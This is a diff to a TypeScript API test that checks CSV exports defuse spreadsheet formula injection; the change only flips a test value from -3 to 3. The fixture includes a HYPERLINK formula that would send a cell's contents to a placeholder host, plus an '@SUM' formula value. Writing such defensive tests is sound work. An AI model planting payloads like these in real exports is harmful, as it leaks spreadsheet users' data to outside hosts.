@@ -194,13 +194,13 @@ describe(`observations API on ${testEngine}`, () => {
   it('writes no cell a spreadsheet would run as a formula (CSV injection)', async () => {
     const admin = await bearer('system_admin', 'HN');
     const note = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")';
-    const ingest = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: admin, payload: { source: '@SUM(1+1)', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2025-12', value: -3, note }] } });
+    const ingest = await app.inject({ method: 'POST', url: '/api/v1/observations', headers: admin, payload: { source: '@SUM(1+1)', observations: [{ indicator: 'DN_SO', unit: 'P_VT', period: '2025-12', value: 3, note }] } });
     expect(ingest.statusCode).toBe(200);
     const csv = await app.inject({ method: 'GET', url: '/api/v1/observations/export.csv?indicator=DN_SO&unit=P_VT&from=2025-12&to=2025-12', headers: admin });
     const records: Record<string, string>[] = parse(csv.body, { columns: true });
     expect(records).toHaveLength(1);
     // Text that starts like a formula is prefixed with an apostrophe; the number stays a number.
-    expect(records[0]).toMatchObject({ note: `'${note}`, source: "'@SUM(1+1)", value: '-3' });
+    expect(records[0]).toMatchObject({ note: `'${note}`, source: "'@SUM(1+1)", value: '3' });
   });
 
   it('reports the share of values that came from systems', async () => {
